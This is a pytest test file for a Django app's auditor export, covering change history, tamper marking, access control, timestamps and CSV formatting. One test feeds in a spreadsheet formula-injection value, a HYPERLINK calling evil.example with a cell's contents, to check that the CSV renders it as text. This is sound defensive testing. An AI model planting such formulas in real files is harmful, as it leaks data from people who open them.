"""The auditor's export: every change of a period, streamed as CSV or JSON Lines."""

import csv
import html
import io
import itertools
import json
import re
from datetime import UTC
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from approvals.models import Agent, AgentAPIKey, Decision, Proposal
from approvals.services.decisions import proposal_approve, proposal_reject
from audit.actors import Actor, acting_as
from audit.chain import chain_seal, chain_verification_record
from executors.runner import proposal_execute
from feedback.callbacks import callback_event_deliver
from feedback.models import CallbackEvent
from ledger.models import Account
from notifications.models import Notification, ReachedBy
from policies.models import Policy
from tests.conftest import reallocation, wait_until
from tests.factories import evaluated

URL = "/admin/audit/export/"
MODEL = "notifications.notification"


def period() -> dict:
    today = timezone.localdate()
    return {"since": str(today), "until": str(today + timezone.timedelta(days=1))}


def executed_reference_proposal():
    proposal = evaluated(reallocation("280.00"))
    proposal_approve(
        proposal_id=proposal.pk, reviewer=get_user_model().objects.get(username="operator")
    )
    return proposal_execute(proposal_id=proposal.pk)


def test_the_jsonl_export_tells_who_did_what_to_each_record(login):
    proposal = executed_reference_proposal()
    response = login("auditor").get(URL, {**period(), "format": "jsonl"})
    assert response.status_code == 200
    assert response.streaming
    assert 'filename="audit-' in response["Content-Disposition"]
    records = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    steps = [
        (r["change"], r["actor_kind"], r["actor"], r["fields"]["status"], r["changed"])
        for r in records
        if r["model"] == "approvals.proposal" and r["object_id"] == proposal.pk
    ]
    assert steps[0] == ("created", "agent", "optimizer", "submitted", None)
    assert [step[1:4] for step in steps[1:]] == [
        ("system", "policy-engine", "pending_review"),
        ("user", "operator", "approved"),
        ("system", "executor", "executing"),
        ("system", "executor", "executed"),
    ]
    assert "status" in steps[2][4] and "decided_at" in steps[2][4]
    budgets = [
        r
        for r in records
        if r["model"] == "ledger.campaign" and r["fields"]["external_id"] == "brand-search"
    ]
    assert budgets[-1]["fields"]["daily_budget"] == "720.00"
    assert budgets[-1]["reason"] == f"proposal #{proposal.pk}: {proposal.summary}"
    assert any(r["model"] == "approvals.decision" and r["user"] == "operator" for r in records)


def test_the_csv_export_has_a_row_per_change(login):
    executed_reference_proposal()
    response = login("auditor").get(URL, {**period(), "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert list(rows[0]) == [
        "at", "model", "object_id", "history_id", "change", "actor_kind", "actor", "user",
        "reason", "changed", "fields", "chain",
    ]  # fmt: skip
    executed = [r for r in rows if r["model"] == "approvals.proposal" and "executed" in r["fields"]]
    assert json.loads(executed[-1]["fields"])["status"] == "executed"


def test_a_record_the_last_verification_found_altered_is_marked_so_in_the_export(login):
    """A decision's note rewritten in the database after it was sealed: the export gave the
    forged note as the record, with nothing to tell it from the rest."""
    proposal = executed_reference_proposal()
    chain_seal()
    forged = Decision.history.get(proposal_id=proposal.pk)
    Decision.history.filter(history_id=forged.history_id).update(note="On the CMO's orders.")
    verification = chain_verification_record()
    assert verification.holds is False
    auditor = login("auditor")

    page = auditor.get(URL).content.decode()
    response = auditor.get(URL, {**period(), "format": "jsonl"})

    said = html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", page)))
    assert "found the chain broken at 1 record (the audit chain's page lists it)" in said
    out = io.StringIO()
    call_command("export_audit", "--since", period()["since"], stdout=out)

    when = verification.finished_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    for exported in (b"".join(response.streaming_content).decode(), out.getvalue()):
        records = [json.loads(line) for line in exported.splitlines()]
        marked = {(r["model"], r["history_id"]): r["chain"] for r in records if r["chain"]}
        assert marked == {
            ("approvals.decision", forged.history_id): (
                f"was altered after it was sealed (verification finished {when})"
            )
        }


def test_the_export_page_tells_a_record_altered_from_a_live_row_changed_past_its_history(login):
    """A decision's note rewritten in its history, and another's reason code in its live row
    (its history intact). The page said "found the chain broken at 2 records": the second's
    record is as it was sealed, its row differing from it, as the chain's page says."""
    proposal = executed_reference_proposal()
    operator = get_user_model().objects.get(username="operator")
    other = evaluated(reallocation("250.00"))
    proposal_reject(proposal_id=other.pk, reviewer=operator, reason_code="contradicts_strategy")
    chain_seal()
    forged = Decision.history.get(proposal_id=proposal.pk)
    Decision.history.filter(history_id=forged.history_id).update(note="On the CMO's orders.")
    Decision.objects.filter(proposal_id=other.pk).update(reason_code="too_aggressive")
    assert chain_verification_record().holds is False

    page = login("auditor").get(URL).content.decode()

    said = html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", page)))
    assert (
        "found the chain broken at 1 record, and 1 live row not as its history last "
        "recorded it (the audit chain's page lists them)." in said
    )


@pytest.mark.parametrize(
    "since, until, named",
    [
        ("2026-12-06", "2026-12-07", "audit-2026-12-06.csv"),
        ("2026-12-01", "2026-12-07", "audit-2026-12-01-to-2026-12-06.csv"),
    ],
)
def test_the_export_is_named_by_the_days_it_covers(login, demo_world, since, until, named):
    """A one-day export (since 2026-12-06, until 2026-12-07, the day after) was named
    "audit-2026-12-06-2026-12-07.csv", read as two days: named by the days it covers, its
    last included. The page says the days are the platform's, from 00:00 UTC."""
    client = login("auditor")
    page = html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", client.get(URL).text)))
    assert "From 00:00 UTC on this day." in page
    assert "The day after the last: the period ends at 00:00 UTC on this day." in page

    response = client.get(URL, {"since": since, "until": until, "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{named}"'


def test_the_export_is_for_those_who_may_read_proposals(demo_world):
    client = Client()
    client.force_login(get_user_model().objects.create_user("visitor", is_staff=True))
    assert client.get(URL, {**period(), "format": "csv"}).status_code == 403


def test_a_backwards_period_is_refused_with_a_message(login):
    page = login("auditor").get(
        URL, {"since": "2026-11-20", "until": "2026-11-01", "format": "csv"}
    )
    assert "The period must end after it starts." in page.content.decode()


def test_the_command_writes_the_same_trail(demo_world):
    executed_reference_proposal()
    out = io.StringIO()
    call_command("export_audit", "--since", period()["since"], stdout=out)
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert {"approvals.proposal", "approvals.decision", "ledger.campaign"} <= {
        r["model"] for r in records
    }


def test_an_api_keys_digest_stays_out_of_the_export_and_the_history_pages(login):
    key = AgentAPIKey.objects.filter(revoked_at__isnull=True).first()
    response = login("auditor").get(URL, {**period(), "format": "jsonl"})
    body = b"".join(response.streaming_content).decode()
    assert '"approvals.agentapikey"' in body
    assert key.digest not in body
    version = key.history.latest("history_date")
    page = login("auditor").get(
        reverse("admin:approvals_agentapikey_simple_history", args=[key.pk, version.history_id])
    )
    assert page.status_code == 200 and key.digest not in page.content.decode()


def test_giving_an_agent_another_account_shows_in_the_export(login):
    other = Account.objects.create(external_id="other", name="O", channel="meta", currency="EUR")
    agent = Agent.objects.get(name="optimizer")
    with acting_as(Actor.system("test")):
        agent.accounts.add(other)
    response = login("auditor").get(URL, {**period(), "format": "jsonl"})
    records = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    versions = [
        r for r in records if r["model"] == "approvals.agent" and r["object_id"] == agent.pk
    ]
    demo = Account.objects.get(external_id="demo").pk
    assert versions[-2]["fields"]["accounts"] == [demo]
    assert versions[-1]["fields"]["accounts"] == sorted([demo, other.pk])
    assert versions[-1]["actor"] == "test"
    assert "accounts" in versions[-1]["changed"]


def exported(client: Client, as_format: str) -> str:
    response = client.get(URL, {**period(), "format": as_format})
    return b"".join(response.streaming_content).decode()


def test_both_formats_write_each_time_alike_to_the_microsecond(login):
    """The same record's time, and the times among its fields, read the same in the CSV as in
    the JSON Lines: ISO 8601 in UTC, to the microsecond it was recorded at."""
    proposal = executed_reference_proposal()
    auditor = login("auditor")
    lines = [json.loads(line) for line in exported(auditor, "jsonl").splitlines()]
    rows = list(csv.DictReader(io.StringIO(exported(auditor, "csv"))))
    assert len(lines) == len(rows)
    as_jsonl = {(r["model"], r["history_id"]): r for r in lines}
    as_csv = {(r["model"], int(r["history_id"])): r for r in rows}
    executed = proposal.history.filter(status="executed").get()
    written = executed.history_date.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    line, row = (
        as_jsonl[("approvals.proposal", executed.history_id)],
        as_csv[("approvals.proposal", executed.history_id)],
    )
    assert line["at"] == row["at"] == written
    assert line["fields"] == json.loads(row["fields"])
    assert line["fields"]["decided_at"] == (
        proposal.decided_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    )
    for key, line in as_jsonl.items():
        assert line["at"] == as_csv[key]["at"], key


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("celery_worker")
def test_a_notifications_log_writes_its_times_as_every_other_time(optimizer, mailbox, login):
    """A notification's log said when each attempt went as "2026-12-05T18:44:41.402803+00:00",
    where every other time in the export, its own sent_at among them, ends in "Z"."""
    answer = optimizer.post("/api/v1/proposals/", reallocation(), format="json")
    assert answer.status_code == 201, answer.content
    wait_until(lambda: Notification.objects.filter(status="sent").exists(), timeout=15)
    auditor = login("auditor")

    lines = [json.loads(line) for line in exported(auditor, "jsonl").splitlines()]
    rows = list(csv.DictReader(io.StringIO(exported(auditor, "csv"))))

    sent = [
        fields
        for fields in [line["fields"] for line in lines if line["model"] == MODEL]
        + [json.loads(row["fields"]) for row in rows if row["model"] == MODEL]
        if fields["status"] == "sent"
    ]
    assert len(sent) == 2  # its record, in each format
    for fields in sent:
        assert fields["sent_at"].endswith("Z")
        assert [entry["at"] for entry in fields["log"]] == [fields["sent_at"]]


def test_the_export_page_names_every_kind_of_record_it_holds(login):
    """The page says what the export holds: notifications and routes as much as proposals."""
    evaluated()  # the operators are told of it
    auditor = login("auditor")
    page = auditor.get(URL).content.decode()
    holds = page.split('id="audit-export-holds">')[1].split(":")[0]
    for kind in ("proposals", "decisions", "executions", "policies", "campaigns", "feedback"):
        assert kind in holds
    for kind in (
        "notifications",
        "routes",
        "decision deadlines",
        "claims",
        "channels each person chose",
    ):
        assert kind in holds
    models = {json.loads(line)["model"] for line in exported(auditor, "jsonl").splitlines()}
    assert "notifications.notification" in models and "notifications.route" in models


def test_an_operator_exports_no_persons_record_the_console_does_not_show_them(login):
    """An operator may not read people (their accounts, emails, roles) nor anyone's channels
    in the console: the export of what they may read holds none of those records either,
    and its page does not say it does. The auditor's holds them, as before."""
    person = get_user_model().objects.get(username="auditor")
    ReachedBy.objects.update_or_create(user=person, defaults={"slack": True, "email": True})
    private = {"auth.user", "auth.group", "notifications.reachedby"}
    operator = login("operator")
    assert operator.get("/admin/auth/user/").status_code == 403
    page = operator.get(URL).content.decode()
    holds = page.split('id="audit-export-holds">')[1].split(":")[0]
    assert "channels each person chose" not in holds and "users" not in holds
    assert "proposals" in holds
    for as_format in ("jsonl", "csv"):
        text = exported(operator, as_format)
        assert "auditor@example.com" not in text
        if as_format == "jsonl":
            models = {json.loads(line)["model"] for line in text.splitlines()}
        else:
            models = {row["model"] for row in csv.DictReader(io.StringIO(text))}
        assert not models & private
        assert "approvals.proposal" in models or "policies.policy" in models
    auditor = login("auditor")
    models = {json.loads(line)["model"] for line in exported(auditor, "jsonl").splitlines()}
    assert private <= models
    assert "channels each person chose" in auditor.get(URL).content.decode()


def test_an_operators_export_page_says_which_breaks_their_export_does_not_hold(login):
    """A person's email changed in the database past its history, and a decision's note
    forged in its history: the operator's export holds no person's record, and its page said
    each break in the period is marked in the export's chain column."""
    proposal = executed_reference_proposal()
    chain_seal()
    forged = Decision.history.get(proposal_id=proposal.pk)
    Decision.history.filter(history_id=forged.history_id).update(note="On the CMO's orders.")
    get_user_model().objects.filter(username="auditor").update(email="someone@elsewhere.example")
    assert chain_verification_record().holds is False

    def said(username: str) -> str:
        page = login(username).get(URL).content.decode()
        return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", page)))

    assert (
        "Each one in the period is marked in the export's chain column, but for 1 of 2 in "
        "records your export does not hold (people's records or their channels, which only an "
        "auditor exports);" in said("operator")
    )
    assert (
        "Each one in the period is marked in the export's chain column; a record deleted"
        in said("auditor")
    )


def test_the_export_page_says_in_what_order_the_rows_come(login):
    """An auditor opening the file found 06:52, then 06:57, then 06:52 again, and the page
    had not said the rows come record by record rather than as one timeline."""
    evaluated()
    auditor = login("auditor")
    page = html.unescape(auditor.get(URL).content.decode())
    said = re.sub(r"\s+", " ", page.split('id="audit-export-order">')[1].split("</p>")[0])
    assert said == (
        "Rows come kind of record by kind, each record's changes together, in the order they "
        "were made: not one timeline across records (sort by the first column, when, for that)."
    )
    rows = list(csv.DictReader(io.StringIO(exported(auditor, "csv"))))
    by_record: dict[tuple[str, str], list[str]] = {}
    for row in rows:
        by_record.setdefault((row["model"], row["object_id"]), []).append(row["at"])
    assert all(times == sorted(times) for times in by_record.values())
    seen = [key for key, _ in itertools.groupby((r["model"], r["object_id"]) for r in rows)]
    assert len(seen) == len(by_record)  # each record's changes together


def test_a_reason_typed_as_a_formula_reaches_the_csv_as_text(login):
    """A policy changed with the reason ``=HYPERLINK(…)``: a spreadsheet opening the CSV
    would run it; the cell starts with an apostrophe, which a spreadsheet shows as text. The
    JSON Lines export keeps the reason as typed."""
    policy = Policy.objects.get(action_type="budget_reallocation", is_draft=False)
    typed = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    policy._change_reason = typed
    policy.save()
    auditor = login("auditor")

    rows = list(csv.DictReader(io.StringIO(exported(auditor, "csv"))))
    lines = [json.loads(line) for line in exported(auditor, "jsonl").splitlines()]

    [row] = [r for r in rows if r["model"] == "policies.policy" and "HYPERLINK" in r["reason"]]
    assert row["reason"] == "'" + typed
    assert [line["reason"] for line in lines if "HYPERLINK" in (line["reason"] or "")] == [typed]


def test_the_export_names_a_json_change_python_holds_equal_and_a_deleted_persons_records(login):
    """A value going from JSON's true to 1 is a change (the chain's digest tells them apart,
    though Python holds them equal); a person since deleted is still the user of the records
    they made, by their name."""

    proposal = evaluated(reallocation("280.00"))
    interim = get_user_model().objects.create_user("interim", is_staff=True)
    with acting_as(Actor.system("test")):
        Proposal.objects.filter(pk=proposal.pk).get().save()  # a record to compare against
        for value in (True, 1):
            proposal.refresh_from_db()
            proposal.supporting_data = {"weekend": value}
            proposal.save()
    agent = Agent.objects.get(name="copywriter")
    with acting_as(Actor.for_user(interim)):
        agent.is_active = False
        agent.save()
    interim.delete()

    response = login("auditor").get(URL, {**period(), "format": "jsonl"})
    records = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    mine = [
        r for r in records if r["model"] == "approvals.proposal" and r["object_id"] == proposal.pk
    ]
    assert [r["fields"]["supporting_data"] for r in mine[-2:]] == [
        {"weekend": True},
        {"weekend": 1},
    ]
    assert mine[-1]["changed"] == ["supporting_data", "updated_at"]
    theirs = [r for r in records if r["model"] == "approvals.agent" and r["object_id"] == agent.pk]
    by_interim = [r for r in theirs if r["actor"] == "interim"]
    assert [(r["user"], r["fields"]["is_active"]) for r in by_interim] == [("interim", False)]


def test_the_export_shows_a_correction_reached_the_agent_with_every_attempt(
    login, callback_endpoint
):
    """A person's rejection, sent to the agent's callback URL: refused once, delivered on the
    next attempt. The auditor shows from the export that it reached the agent, and when: the
    event's history, each change a record as every other's (it was one row, as it stood when
    exported, and in no history the chain sealed)."""
    endpoint = callback_endpoint(503, 200)
    proposal = evaluated(reallocation("280.00"))
    operator = get_user_model().objects.get(username="operator")
    proposal_reject(
        proposal_id=proposal.pk,
        reviewer=operator,
        reason_code="too_aggressive",
        note="Move 10% at most.",
    )
    [event] = CallbackEvent.objects.all()
    callback_event_deliver(event_id=event.pk)
    CallbackEvent.objects.filter(pk=event.pk).update(next_attempt_at=timezone.now())
    callback_event_deliver(event_id=event.pk)
    assert len(endpoint.received) == 2

    auditor = login("auditor")
    page = html.unescape(auditor.get(URL).content.decode())
    holds = re.sub(r"\s+", " ", page.split('id="audit-export-holds">')[1].split("</p>")[0])
    assert "the callback events sent to agents (each attempt to deliver one" in holds
    assert 'id="audit-export-logged"' not in page

    rows = [
        json.loads(line)
        for line in exported(auditor, "jsonl").splitlines()
        if json.loads(line)["model"] == "feedback.callbackevent"
    ]
    assert [(r["object_id"], r["change"], r["actor_kind"], r["actor"]) for r in rows] == [
        (event.pk, "created", "system", "callbacks"),
        *[(event.pk, "changed", "system", "callbacks")] * 4,
    ]
    assert rows[-1]["reason"].endswith("HTTP 200; delivered")
    assert {"status", "log", "delivered_at"} <= set(rows[-1]["changed"])
    fields = rows[-1]["fields"]
    assert (fields["proposal_id"], fields["type"], fields["status"], fields["attempts"]) == (
        proposal.pk,
        "proposal.rejected",
        "delivered",
        2,
    )
    assert fields["body"]["proposal"]["status"] == "rejected"
    assert [entry["result"] for entry in fields["log"]] == ["HTTP 503", "HTTP 200"]
    assert all(entry["at"].endswith("Z") for entry in fields["log"])
    assert fields["log"][0]["retry_at"].endswith("Z")  # written as every other time
    assert fields["delivered_at"].endswith("Z")
    csv_rows = [
        r
        for r in csv.DictReader(io.StringIO(exported(auditor, "csv")))
        if r["model"] == "feedback.callbackevent"
    ]
    assert len(csv_rows) == len(rows)
    assert json.loads(csv_rows[-1]["fields"])["log"] == fields["log"]


def test_the_export_form_says_in_which_zone_its_days_start_and_end(login):
    """Its dates read "Since" and "Until: The day after the last.": an auditor in New York
    exporting 2026-12-06 got 19:00 their time the day before to 19:00 that day, told nothing
    of it (the days are UTC's, as every time the export writes)."""
    page = login("auditor").get(URL).text

    assert "From 00:00 UTC on this day." in page
    assert "The day after the last: the period ends at 00:00 UTC on this day." in page


def test_a_proposals_record_gives_its_routing_policy_version_by_the_number_its_page_says(login):
    """The export's ``verdict_policy_version`` is the version's history record (7, shared by
    every policy's records) while the proposal's page says "version 2": nothing in the export
    said 2. ``verdict_policy_number`` beside it does, read in the records' own statement."""
    policy = Policy.objects.get(action_type="budget_reallocation")
    policy.auto_execute_max_magnitude += Decimal("0.01")
    policy.save()  # its version 2
    proposals = [evaluated(reallocation(amount)) for amount in ("280.00", "290.00")]
    client = login("auditor")

    page = client.get(f"/admin/approvals/proposal/{proposals[0].pk}/change/").text
    with CaptureQueriesContext(connection) as few:
        exported(client, "jsonl")
    for amount in ("300.00", "310.00", "320.00"):
        evaluated(reallocation(amount))
    with CaptureQueriesContext(connection) as more:
        lines = exported(client, "jsonl")
    csv_rows = list(csv.DictReader(io.StringIO(exported(client, "csv"))))

    assert f"policy “{policy.name}” in its version 2," in page
    routed = [
        json.loads(line)["fields"]
        for line in lines.splitlines()
        if json.loads(line)["model"] == "approvals.proposal"
        and json.loads(line)["object_id"] == proposals[0].pk
        and json.loads(line)["fields"]["verdict_policy_version"]
    ]
    assert routed
    for fields in routed:
        assert fields["verdict_policy_version"] == policy.history.latest("history_id").history_id
        assert fields["verdict_policy_number"] == 2
        # Beside the field it numbers, which stays as it was.
        keys = list(fields)
        assert keys.index("verdict_policy_number") == keys.index("verdict_policy_version") + 1
    in_csv = [
        json.loads(row["fields"])
        for row in csv_rows
        if row["model"] == "approvals.proposal" and row["object_id"] == str(proposals[0].pk)
    ]
    assert {fields["verdict_policy_number"] for fields in in_csv} == {None, 2}
    assert len(more.captured_queries) == len(few.captured_queries)  # no query per record


def test_a_reassessed_proposals_record_gives_the_version_its_reasons_were_reached_under(
    operators, login, optimizer
):
    """A proposal routed under a policy's version 1 and re-assessed under its version 2
    (the money moved first; its reasons now quote version 2's 11.0% ceiling): the API said
    ``verdict.policy.number`` 2, while the export's records said ``verdict_policy_number`` 1
    and gave the re-assessment's version only as its history record's id. Beside it, its
    number, as the API counts it."""
    first = evaluated(reallocation("200.00"))
    waiting = evaluated(reallocation("150.00"))
    policy = Policy.objects.get(action_type="budget_reallocation")
    policy.auto_execute_max_magnitude += Decimal("0.01")
    policy.save()  # its version 2
    proposal_approve(proposal_id=first.pk, reviewer=operators[0])
    assert proposal_execute(proposal_id=first.pk).status == "executed"
    client = login("auditor")

    said = optimizer.get(f"/api/v1/proposals/{waiting.pk}/").json()["verdict"]
    records = [
        json.loads(line)
        for line in exported(client, "jsonl").splitlines()
        if json.loads(line)["model"] == "approvals.proposal"
        and json.loads(line)["object_id"] == waiting.pk
    ]
    in_csv = [
        json.loads(row["fields"])
        for row in csv.DictReader(io.StringIO(exported(client, "csv")))
        if row["model"] == "approvals.proposal" and row["object_id"] == str(waiting.pk)
    ]

    assert said["policy"]["number"] == 2
    assert any("11.0% auto-execute ceiling" in reason for reason in said["reasons"])
    last = records[-1]["fields"]
    assert last["reassessed_policy_version"] == policy.history.latest("history_id").history_id
    assert (last["verdict_policy_number"], last["reassessed_policy_number"]) == (1, 2)
    keys = list(last)
    assert keys.index("reassessed_policy_number") == keys.index("reassessed_policy_version") + 1
    assert [fields["reassessed_policy_number"] for fields in in_csv] == [None, None, 2]


def test_the_csv_export_names_its_charset_so_an_arrow_reads_as_an_arrow(login):
    """The CSV was sent as "text/csv" alone: a reader that takes text of no named charset
    as HTTP's default (ISO-8859-1), as Python's requests does, read "Approved → Executing"
    as "Approved â\\x86\\x92 Executing". It says it is UTF-8, as it is."""
    executed_reference_proposal()
    response = login("auditor").get(URL, {**period(), "format": "csv"})

    kind, _, charset = response["Content-Type"].partition("; charset=")
    assert kind == "text/csv"
    text = b"".join(response.streaming_content).decode(charset or "iso-8859-1")
    reasons = {row["reason"] for row in csv.DictReader(io.StringIO(text))}
    assert "Approved → Executing" in reasons
